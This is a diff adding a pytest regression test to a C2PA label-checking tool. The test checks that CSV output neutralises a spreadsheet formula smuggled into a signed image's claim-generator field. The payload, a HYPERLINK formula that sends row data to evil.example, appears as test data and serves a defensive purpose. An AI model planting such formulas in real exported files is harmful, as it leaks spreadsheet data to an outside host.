@@ -11,7 +11,7 @@ from html import unescape
 from pathlib import Path
 
 import pytest
-from conftest import MEDIA, checked_scan, run_cli
+from conftest import MEDIA, ROOT, TEST_CA, checked_scan, run_cli
 from test_report import GOLDEN, sample_report
 
 from labelcheck import resources
@@ -64,6 +64,30 @@ def test_csv_is_one_row_per_item(fixture_report):
     comfy = next(r for r in rows if r["target"].endswith("png_comfyui.png"))
     assert comfy["ai_status"] == "fully_ai" and comfy["ai_basis"] == "non_standard" and comfy["status"] == "fail"
     assert "labelcheck-default/ai-label-standard" in comfy["failed_rules"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(tmp_path):
+    """A file whose C2PA manifest names its claim generator like a formula: that cell gets a leading apostrophe, so
+    a spreadsheet shows it instead of running it (and sending the row to evil.example)."""
+    import sys
+
+    sys.path.insert(0, str(ROOT / "fixtures"))
+    import c2pa
+    import make_fixtures as mf
+
+    certs = ROOT / "fixtures" / "certs"
+    info = c2pa.C2paSignerInfo(
+        b"es256", (certs / "signer-chain.pem").read_bytes(), (certs / "signer.key").read_bytes(), None
+    )
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    m = mf.manifest("t", [mf.created("trainedAlgorithmicMedia")])
+    m["claim_generator_info"] = [{"name": formula, "version": "1"}]
+    signed = tmp_path / "signed.jpg"
+    mf.sign(MEDIA / "plain_camera.jpg", signed, m, c2pa.Signer.from_info(info))
+    p = run_cli("check", signed, "--trust-anchors", TEST_CA, "--format", "csv")
+    (row,) = list(csv.DictReader(io.StringIO(p.stdout)))
+    assert row["generator"] == f"'{formula} 1" and row["target"] == str(signed)
+    assert row["ai_status"] == "fully_ai" and row["status"] == "pass" and int(row["size"]) > 0  # the rest as it was
 
 
 def test_junit_has_a_case_per_item_and_rule(fixture_report):
